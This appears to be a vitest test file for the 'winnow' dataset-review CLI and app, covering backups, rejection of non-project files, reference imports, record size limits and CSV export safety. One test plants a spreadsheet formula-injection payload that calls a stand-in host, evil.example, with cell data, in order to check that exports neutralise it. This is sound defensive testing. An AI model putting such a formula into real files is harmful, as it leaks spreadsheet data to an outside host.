/**
 * The CLI and the app face of issue 10's file handling: `winnow backup` and *Save a copy*,
 * `winnow info` on files that are not projects, reference imports with unknown ids, the
 * per-record cap, and decisions CSV that a spreadsheet cannot run.
 */
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { openDatabase } from '../../src/main/core/store/database';
import { applyDecisions } from '../../src/main/core/store/decisions';
import { importSplit } from '../../src/main/core/store/import-split';
import { testCore } from '../helpers/core';
import { record, writeJson } from '../helpers/records';
import { tempDir } from '../helpers/temp-dir';
import { ROOT, TSX } from './reliability/support';

function winnow(...args: string[]): { code: number | null; stdout: string; stderr: string } {
  const result = spawnSync(TSX, [path.join(ROOT, 'src/main/cli.ts'), ...args], { cwd: ROOT, encoding: 'utf8', timeout: 60_000 });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

const hash = (file: string) => crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex');

async function project(dir: string): Promise<string> {
  const file = path.join(dir, 'p.winnow');
  const db = openDatabase(file, { create: true });
  await importSplit(db, { filePath: writeJson(path.join(dir, 'train.json'), [record('a'), record('b'), record('c', { relation: 'no_relation' })]), split: 'train' });
  db.close();
  return file;
}

const SLOW = { timeout: 120_000 };

describe('winnow backup', () => {
  it('writes a copy that holds every decision, and refuses the project itself in one line', SLOW, async () => {
    const dir = tempDir();
    const file = await project(dir);
    const db = openDatabase(file);
    try {
      // Keep a connection open so the decisions stay in the -wal, as while the app runs.
      for (const row of db.prepare('SELECT id FROM examples').pluck().all() as number[]) applyDecisions(db, { examples: [row], action: 'keep', annotator: 'me' });
      const copy = path.join(dir, 'copies', 'p-copy.winnow');
      const ok = winnow('backup', file, copy);
      expect(ok.code, ok.stderr).toBe(0);
      expect(ok.stdout).toMatch(/^Wrote a copy of .*p\.winnow to .*p-copy\.winnow \(\d+\.\d MiB\)\n$/);
      fs.copyFileSync(copy, path.join(dir, 'alone.winnow'));
      const alone = openDatabase(path.join(dir, 'alone.winnow'));
      expect(alone.prepare('SELECT count(*) FROM decisions').pluck().get()).toBe(3);
      alone.close();
      const refused = winnow('backup', file, path.join(dir, '.', 'p.winnow'));
      expect(refused.code).toBe(1);
      expect(refused.stderr).toBe(`winnow: ${path.join(dir, 'p.winnow')} is the project itself; choose another file for the copy\n`);
    } finally {
      db.close();
    }
  });

  it('is *Save a copy* in the app: to the file the user chose', async () => {
    const dir = tempDir();
    const file = await project(dir);
    const { core, handlers, grant } = testCore(path.join(dir, 'data'));
    core.openProject(file);
    await handlers['decisions:apply']({ target: { ids: ['a'] }, action: 'eliminate' });
    const target = path.join(dir, 'saved.winnow');
    const saved = await handlers['project:saveCopy']({ destination: grant(target, 'write-file') });
    expect(saved).toMatchObject({ role: 'project-copy', path: target, downloadUrl: null });
    const copy = openDatabase(target);
    expect(copy.prepare('SELECT count(*) FROM decisions').pluck().get()).toBe(1);
    copy.close();
    await expect(Promise.resolve().then(() => handlers['project:saveCopy']({ destination: grant(file, 'write-file') }))).rejects.toThrow(/is the project itself/);
    core.closeProject();
  });
});

describe('winnow info on a file that is not a project', () => {
  it('says so in one line and leaves the file as it was, even an empty one', SLOW, () => {
    const dir = tempDir();
    const text = path.join(dir, 'passwd');
    fs.writeFileSync(text, 'root:x:0:0:root:/root:/bin/bash\n');
    const empty = path.join(dir, 'empty.winnow');
    fs.writeFileSync(empty, '');
    for (const [file, reason] of [
      [text, 'is not a Winnow project (not an SQLite database)'],
      [empty, 'is empty (0 bytes), not a Winnow project'],
    ] as const) {
      const before = hash(file);
      const result = winnow('info', file);
      expect(result.code).toBe(1);
      expect(result.stderr).toBe(`winnow: ${file} ${reason}\n`);
      expect(hash(file)).toBe(before);
      expect(fs.readdirSync(dir).filter((name) => name.endsWith('-wal') || name.endsWith('-shm'))).toEqual([]);
    }
  });
});

describe('winnow reference import', () => {
  it('refuses unknown ids and labels with counts, and imports them with --allow-unknown', SLOW, async () => {
    const dir = tempDir();
    const file = await project(dir);
    const patch = path.join(dir, 'patch.json');
    fs.writeFileSync(patch, JSON.stringify([{ id: 'a', relation: 'per:title' }, { id: 'nope', relation: 'per:titel' }]));
    const refused = winnow('reference', 'import', file, patch, '--name', 'ref');
    expect(refused.code).toBe(1);
    expect(refused.stderr).toBe(
      `winnow: ${patch}: 1 of its 2 ids are not in this project ("nope") and 1 of its labels are unknown to this project ("per:titel"); nothing was imported (import it anyway with --allow-unknown)\n`,
    );
    const allowed = winnow('reference', 'import', file, patch, '--name', 'ref', '--allow-unknown');
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(allowed.stdout).toBe('Imported reference "ref" (tacrev style): 2 labels, 1 of them for examples in this project (1 ids not in this project, 1 unknown labels)\n');
  });
});

describe('winnow import --max-record-mb', () => {
  it('names the record, its size and the limit', SLOW, async () => {
    const dir = tempDir();
    const file = path.join(dir, 'big.jsonl');
    fs.writeFileSync(file, `${JSON.stringify(record('a'))}\n${JSON.stringify(record('b', { pad: 'p'.repeat(2 * 1024 * 1024) }))}\n`);
    const result = winnow('import', path.join(dir, 'p.winnow'), file, '--split', 'train', '--max-record-mb', '1');
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^winnow: .*big\.jsonl: record 1 \(line 2\): is 2\.0 MiB \(\d+ bytes\), over the limit of 1\.0 MiB for one record/);
    expect(fs.existsSync(path.join(dir, 'p.winnow'))).toBe(false);
  });
});

describe('decisions CSV', () => {
  it('neutralises a note that a spreadsheet would run, in `winnow decisions --format csv` and in exports', SLOW, async () => {
    const dir = tempDir();
    const file = await project(dir);
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"see")';
    const db = openDatabase(file);
    const row = db.prepare("SELECT id FROM examples WHERE ext_id = 'a'").pluck().get() as number;
    applyDecisions(db, { examples: [row], action: 'eliminate', annotator: '@admin', note: formula });
    db.close();
    const result = winnow('decisions', file, '--format', 'csv');
    expect(result.code, result.stderr).toBe(0);
    const line = result.stdout.split('\n')[1]!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""see"")"`);
    expect(line).toContain(",'@admin,");
    expect(line).not.toMatch(/,=|,@|,\+|,-/);

    const { core, handlers, finished } = testCore(path.join(dir, 'data'));
    core.openProject(file);
    const { jobId } = await handlers['export:start']({ split: 'train', mode: 'reviewed', apply: 'both', format: 'json', decisionsOverride: false, resolve: 'adjudicated' });
    const done = await finished(jobId);
    expect(done.status).toBe('done');
    const csv = (done as { result: { outputs: { role: string; path: string }[] } }).result.outputs.find((o) => o.role === 'decisions-csv')!;
    const text = fs.readFileSync(csv.path, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""see"")"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    core.closeProject();
  });
});
